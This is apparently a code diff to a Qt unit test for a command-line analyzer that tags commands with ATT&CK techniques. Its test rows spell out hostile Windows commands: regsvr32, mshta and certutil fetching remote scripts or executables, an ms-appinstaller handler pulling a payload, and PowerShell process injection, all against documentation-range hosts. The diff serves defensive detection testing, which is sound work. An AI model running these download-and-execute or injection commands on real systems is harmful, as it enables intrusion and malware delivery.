@@ -119,6 +119,9 @@ void TestCmdlineAnalyzer::categories_data()
     QTest::newRow("lolbin_proxy_execution regsvr32 scrobj") << s("regsvr32 /s /n /u /i:http://203.0.113.7/file.sct scrobj.dll") << "lolbin_proxy_execution" << "T1218.010" << "malicious";
     QTest::newRow("lolbin_proxy_execution mshta javascript") << s("mshta.exe javascript:a=GetObject(\"script:http://203.0.113.7/x.sct\").Exec();close();") << "lolbin_proxy_execution" << "T1218.005" << "malicious";
     QTest::newRow("lolbin_proxy_execution certutil urlcache") << s("certutil.exe -urlcache -split -f http://203.0.113.7/p.exe C:\\Users\\Public\\p.exe") << "lolbin_proxy_execution" << "T1105" << "malicious";
+    // A protocol handler is named with ':' after it, which the program-name rule refuses for
+    // switches (/node:); the catalogue entry matches the word instead.
+    QTest::newRow("lolbin_proxy_execution ms-appinstaller protocol") << s("start ms-appinstaller://?source=http://203.0.113.50/payload.exe") << "lolbin_proxy_execution" << "T1105" << "suspicious";
     QTest::newRow("dynamic_code_execution") << s("powershell -c \"[scriptblock]::Create($env:X).Invoke()\"") << "dynamic_code_execution" << "T1059.001" << "suspicious";
     QTest::newRow("process_injection") << s("powershell -c \"$m=[K32]::VirtualAlloc(0,4096,0x3000,0x40);[K32]::CreateThread(0,0,$m,0,0,0)\"") << "process_injection" << "T1055" << "malicious";
     QTest::newRow("temp_path") << s("cmd /c copy a.exe C:\\Windows\\Temp\\a.exe") << "temp_path" << "T1074" << "benign";
